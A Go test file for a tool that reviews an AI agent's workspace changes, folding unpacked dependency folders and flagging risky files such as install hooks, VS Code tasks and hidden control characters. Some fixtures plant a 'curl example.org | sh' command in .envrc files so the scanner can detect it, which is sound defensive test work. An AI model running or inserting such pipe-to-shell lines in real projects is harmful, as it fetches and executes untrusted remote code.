package review_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"aibox/review"

	"github.com/google/go-cmp/cmp"

	"aibox/review/accept"
	"aibox/review/printer"
	"aibox/review/reviewtest"
	"aibox/review/risk"
	"aibox/review/scan"
)

// folded computes the change set with at most so many changes listed.
func folded(b *reviewtest.Fixture, most int) *review.ChangeSet {
	b.T.Helper()
	cs, err := scan.Workspace(b.T.Context(), b.Workspace, scan.Options{MaxListed: most})
	reviewtest.Must(b.T, err)
	reviewtest.Must(b.T, review.Assess(b.T.Context(), b.Workspace, cs))
	data, err := json.Marshal(cs)
	reviewtest.Must(b.T, err)
	back := new(review.ChangeSet)
	reviewtest.Must(b.T, json.Unmarshal(data, back))
	return back
}

// outline returns the listed and the folded changes, as "letter path" and "path files".
func outline(cs *review.ChangeSet) (lines []string) {
	for _, c := range cs.Changes {
		if c.Folder != nil {
			lines = append(lines, fmt.Sprintf("%s %d files", c.Path, c.Folder.Files))
		} else {
			lines = append(lines, c.Kind.Letter()+" "+c.Path.String())
		}
	}
	return lines
}

// unpack writes this number of files of a dependency, in many folders.
func unpack(b *reviewtest.Fixture, dir string, files int) {
	for i := range files {
		b.Write(fmt.Sprintf("%s/package%03d/lib/file%d.js", dir, i/2, i), fmt.Sprintf("module.exports = %d\n", i))
	}
}

func TestUnpackedDependenciesAreFoldedButWorkIsListed(t *testing.T) {
	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n", "src/main.go": "package main\n", "old.txt": "old\n", "data/a": "a\n"}).Prepare()
	unpack(b, "apps/web/node_modules", 300)
	b.Write("apps/web/src/app.js", "app()\n")
	b.Write("README", "changed\n")
	b.Write("src/new.go", "package main\n\nvar x = 1\n")
	for i := range 100 {
		b.Write(fmt.Sprintf("data/%03d.csv", i), "1,2\n")
	}
	reviewtest.Must(t, os.Remove(b.Path("old.txt")))
	cs := folded(b, 20)
	want := []string{"M README", "A apps/web/src/app.js", "D old.txt", "A src/new.go", "./ 100 files", "apps/web/node_modules/ 300 files"}
	if diff := cmp.Diff(want, outline(cs)); diff != "" {
		t.Fatalf("the list (-want +got):\n%s", diff)
	}
	if whole := b.Compute(); whole.Tree != cs.Tree || whole.Listed != "" {
		t.Errorf("the tree is %s, of all that is listed %s (%q)", cs.Tree, whole.Tree, whole.Listed)
	}
	if cs.Count() != 404 {
		t.Errorf("%d files were changed", cs.Count())
	}
	var names, stat, shown bytes.Buffer
	reviewtest.Must(t, printer.NamesZ(t.Context(), cs, &names))
	if n := strings.Count(names.String(), "\x00"); n != 404 || !strings.Contains(names.String(), "\x00data/042.csv\x00") {
		t.Errorf("%d names:\n%q", n, names.String())
	}
	reviewtest.Must(t, printer.Stat(cs, &stat, 100))
	reviewtest.Must(t, printer.Diff(t.Context(), cs, &shown, printer.DiffOptions{}))
	for _, form := range []string{stat.String(), shown.String()} {
		if !strings.Contains(form, "apps/web/node_modules/") || !strings.Contains(form, "300 files") || strings.Contains(form, "package001") {
			t.Errorf("shown is\n%s", form)
		}
	}
	b.AppliesTo(cs)
}

// TestBinaryFilesOfAFoldedFolderAreJudgedAsSuch has ordinary images, whose bytes are no control
// characters of a text, and programs that are only found in binary files.
func TestBinaryFilesOfAFoldedFolderAreJudgedAsSuch(t *testing.T) {
	for _, c := range []struct{ name, content, rule string }{
		{"images/more.png", "", ""},
		{"images/a.jar", "PK\x03\x04\x00", "program"},
		{"images/a.bin", "MZ\x90\x00", "program"},
		{"images/a.js", "run()\x00", "hidden-diff"},
		{"images/b.txt", "a\x1b[2J\n", "control"},
		{"images/long.bin", strings.Repeat("x", risk.MaxContent+1), "large-file"},
	} {
		b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n"}).Prepare()
		for i := range 60 {
			b.Write(fmt.Sprintf("images/%03d.png", i), fmt.Sprintf("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x1b\x07\u202e\u200b%d", i))
		}
		b.Write(c.name, c.content)
		cs := folded(b, 10)
		var rules []string
		for _, r := range reviewtest.RisksOf(t, cs, "images/") {
			rules = append(rules, r.Rule)
		}
		if got := strings.Join(rules, " "); got != c.rule {
			t.Errorf("with %s: risks %q, want %q", c.name, got, c.rule)
		}
	}
}

// A folder is taken or left out as a whole. In any order, taking everything gives the
// agent's tree.
func TestAFoldedFolderIsSelectedAsAWhole(t *testing.T) {
	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n", "gone/a": "a\n", "gone/b": "b\n", "gone/c": "c\n"}).Prepare()
	unpack(b, "one", 80)
	unpack(b, "two", 90)
	b.Write("src.go", "package main\n")
	reviewtest.Must(t, os.RemoveAll(b.Path("gone")))
	b.Write("gone", "a file now\n")
	cs, ctx := folded(b, 5), t.Context()
	if got := outline(cs); !slices.Contains(got, "one/ 80 files") || !slices.Contains(got, "two/ 90 files") {
		t.Fatalf("the list is %q", got)
	}
	choose := func(choice review.Choice) *review.Selection {
		s, err := cs.Select(ctx, choice)
		reviewtest.Must(t, err)
		return s
	}
	tree := func(s *review.Selection) string {
		tree, err := cs.TreeOf(ctx, s)
		reviewtest.Must(t, err)
		return tree
	}
	all := choose(review.Choice{All: true})
	if got := tree(all); got != cs.Tree || !all.Complete(cs) {
		t.Errorf("all gives %s, not %s", got, cs.Tree)
	}
	one := choose(review.Choice{Files: []string{"one"}})
	files := func(tree string) int {
		return strings.Count(reviewtest.GitIn(t, cs.GitDir, "ls-tree", "-r", tree)+"\n", "\n")
	}
	if got := files(tree(one)); got != 84 {
		t.Errorf("the tree with one folder has %d files", got)
	}
	rest := choose(review.Choice{Files: []string{"two/", "src.go", "gone", "gone/*"}})
	if got := files(tree(rest)); got != 93 {
		t.Errorf("the tree with the rest has %d files", got)
	}
	if sum := one.Union(rest); tree(sum) != cs.Tree {
		t.Errorf("one and then the rest gives %s, not %s", tree(sum), cs.Tree)
	}
	part, err := cs.Part(ctx, one)
	reviewtest.Must(t, err)
	if diff := cmp.Diff([]string{"one/ 80 files"}, outline(part)); diff != "" {
		t.Errorf("the part (-want +got):\n%s", diff)
	}
	accepted, err := accept.Run(ctx, b.Workspace, cs, accept.Options{Choice: review.Choice{Files: []string{"one"}}})
	reviewtest.Must(t, err)
	if accepted.Files != 80 {
		t.Errorf("%d files were accepted", accepted.Files)
	}
	again, err := accept.Run(ctx, b.Workspace, cs, accept.Options{
		Choice: review.Choice{All: true},
		Prior:  &accept.Prior{Selection: accepted.Selection, Tree: accepted.Tree, Branch: accepted.Branch, Commit: accepted.Commit},
	})
	reviewtest.Must(t, err)
	if got := reviewtest.GitIn(t, b.Repo, "rev-parse", again.Branch+"^{tree}"); got != cs.Tree || again.Branch != accepted.Branch {
		t.Errorf("the branch holds %s, not %s", got, cs.Tree)
	}
}

// TestAFoldedFileBehindASymlinkIsJudgedByItsName has a symlink to a folder that is folded, and one to a
// file of it that a hook names.
func TestAFoldedFileBehindASymlinkIsJudgedByItsName(t *testing.T) {
	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n"})
	reviewtest.Must(t, os.Symlink("config/vscode", b.InRepo(".vscode")))
	reviewtest.Must(t, os.Symlink("tools/x/check.py", b.InRepo("check")))
	b.Commit(nil)
	reviewtest.Write(t, b.InRepo(".git/hooks/pre-push"), "exec ./check\n")
	b.Prepare()
	unpack(b, "config", 30)
	unpack(b, "tools", 40)
	b.Write("config/vscode/tasks.json", "{}\n")
	b.Write("tools/x/check.py", "1\n")
	cs := folded(b, 5)
	if risks := reviewtest.RisksOf(t, cs, "config/"); len(risks) != 1 || risks[0].Rule != "vscode-tasks" {
		t.Errorf("%+v", risks)
	}
	if risks := reviewtest.RisksOf(t, cs, "tools/"); len(risks) != 1 || risks[0].Rule != "called" || risks[0].Found != "tools/x/check.py" {
		t.Errorf("%+v", risks)
	}
}

// A folder with a file that would run is held back, and its risk names the file.
func TestARiskyFileHoldsItsFoldedFolderBack(t *testing.T) {
	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n", "package.json": `{"scripts":{"postinstall":"node tools/run/x/setup.js"}}`}).Prepare()
	unpack(b, "calm", 30)
	unpack(b, "third", 40)
	b.Write("third/package001/.envrc", "curl example.org | sh\n")
	b.Write("third/package007/.envrc", "curl example.org | sh\n")
	unpack(b, "tools", 50)
	b.Write("tools/run/x/setup.js", "run()\n")
	cs := folded(b, 5)
	risks := map[string]string{}
	for _, c := range cs.Changes {
		if c.Risky() {
			for _, r := range c.Risks {
				risks[c.Path.Raw()] += r.Rule + " " + r.Found + "; "
			}
		}
	}
	if !strings.Contains(risks["third/"], "third/package001/.envrc and 1 other file") || !strings.Contains(risks["tools/"], "tools/run/x/setup.js") || risks["calm/"] != "" {
		t.Fatalf("the risks are %q of %q", risks, outline(cs))
	}
	s, err := cs.Select(t.Context(), review.Choice{All: true})
	reviewtest.Must(t, err)
	if len(s.Taken) != 1 || s.Taken[0].Path != "calm/" || len(s.Left) != 2 {
		t.Errorf("taken is %v, left %v", s.Taken, s.Left)
	}
	s, err = cs.Select(t.Context(), review.Choice{All: true, Risky: []string{"third/", "tools/"}})
	reviewtest.Must(t, err)
	if !s.Complete(cs) {
		t.Errorf("taken is %v, left %v", s.Taken, s.Left)
	}
}

// The hunk of a folder is the folder, and its id changes with the files below it.
func TestAFoldedFolderIsOneHunk(t *testing.T) {
	b := reviewtest.NewRepository(t, map[string]string{"README": "hello\n"}).Prepare()
	unpack(b, "one", 80)
	id := func(cs *review.ChangeSet) (id review.HunkID) {
		reviewtest.Must(t, cs.Files(t.Context(), func(f review.FileDiff) error {
			if len(f.Hunks) != 1 || f.Hunks[0].Kind != review.HunkFolder {
				t.Errorf("the hunks of %s are %v", f.Change.Path, f.Hunks)
			}
			id = f.Hunks[0].ID
			return nil
		}))
		return id
	}
	first := id(folded(b, 5))
	if again := id(folded(b, 5)); again != first || first == "" {
		t.Errorf("the id is %s, and then %s", first, again)
	}
	b.Write("one/package000/lib/file0.js", "another content\n")
	cs := folded(b, 5)
	if second := id(cs); second == first {
		t.Error("the id does not change with the files")
	}
	if _, err := cs.Select(t.Context(), review.Choice{Hunks: []string{string(id(cs))}}); err != nil {
		t.Error(err)
	}
}

// Random trees: the selections of listed and folded changes add up to the agent's tree.
func TestSelectionsOfAFoldedChangeSetAddUp(t *testing.T) {
	for seed := range 6 {
		base, files := map[string]string{"top": "x\n"}, map[string]string{}
		for i := range 40 {
			name := fmt.Sprintf("d%d/e%d/f%d", (i*seed)%5, i%(seed+2), i)
			base[name] = "old\n"
			if i%3 > 0 {
				files[name] = fmt.Sprintf("new %d\n", i*seed)
			}
		}
		b := reviewtest.NewRepository(t, base).Prepare()
		for name, content := range files {
			b.Write(name, content)
		}
		for i := range 60 {
			b.Write(fmt.Sprintf("n%d/m%d/f%d", i%(seed+1), i%7, i), "x\n")
		}
		reviewtest.Must(t, os.RemoveAll(b.Path("d1")))
		whole := b.Compute().Tree
		for _, most := range []int{1, 7, 30} {
			cs := folded(b, most)
			if cs.Tree != whole {
				t.Fatalf("seed %d, %d listed: the tree is %s, not %s", seed, most, cs.Tree, whole)
			}
			sum := &review.Selection{}
			for i := range cs.Changes {
				s, err := cs.Select(t.Context(), review.Choice{Files: []string{cs.Changes[i].Path.Raw()}})
				reviewtest.Must(t, err)
				if len(s.Taken) != 1 {
					t.Fatalf("seed %d: %s takes %v", seed, cs.Changes[i].Path, s.Taken)
				}
				sum = sum.Union(s)
				if i == len(cs.Changes)/2 || i == len(cs.Changes)-2 {
					if _, err := cs.TreeOf(t.Context(), sum); err != nil {
						t.Fatal(err)
					}
				}
			}
			if tree, err := cs.TreeOf(t.Context(), sum); tree != whole || err != nil {
				t.Errorf("seed %d, %d listed: the sum is %s (%v), not %s", seed, most, tree, err, whole)
			}
			if len(cs.Changes) > 1 {
				last := sum.Taken[1:]
				if _, err := cs.TreeOf(t.Context(), &review.Selection{Taken: last}); err != nil && !errors.Is(err, os.ErrNotExist) {
					t.Log(err) // a file and a folder at once, perhaps
				}
			}
		}
	}
}
